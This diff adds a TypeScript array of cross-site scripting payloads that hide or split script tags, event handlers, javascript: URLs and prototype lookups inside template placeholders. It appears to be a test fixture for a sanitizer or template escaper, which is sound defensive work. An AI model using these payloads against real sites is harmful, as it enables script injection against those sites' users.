@@ -1,0 +1,21 @@
+/** What is pieced together by placeholders, or hides in them. */
+export const placeholders: readonly string[] = [
+  "{{{<script>alert(1)</script>}}}",
+  "<scr{{x}}ipt>alert(1)</scr{{x}}ipt>",
+  "<img src=x on{{x}}error=alert(1)>",
+  "<img src=x {{#if x}}onerror{{/if}}=alert(1)>",
+  "<img src=x {{x}}onerror=alert(1)>",
+  '<a href="{{x}}javascript:alert(1)">x</a>',
+  '<a href="java{{x}}script:alert(1)">x</a>',
+  '<a href="{{#if x}}java{{/if}}script:alert(1)">x</a>',
+  "{{!-- --}}<script>alert(1)</script>",
+  "{{!--<p>--}}<img src=x onerror=alert(1)>{{!--</p>--}}",
+  "<!--{{x}}--><img src=x onerror=alert(1)>",
+  "<{{x}}img src=x onerror=alert(1)>",
+  "<style>{{x}}</style{{x}}><img src=x onerror=alert(1)>",
+  '<p title="{{x}}"onclick=alert(1)>x</p>',
+  '<p title={{"}} onclick=alert(1) "}}>x</p>',
+  "{{constructor.constructor}}",
+  "{{__proto__.x}}",
+  "{{#with (lookup this 'constructor')}}<img src=x onerror=alert(1)>{{/with}}",
+];
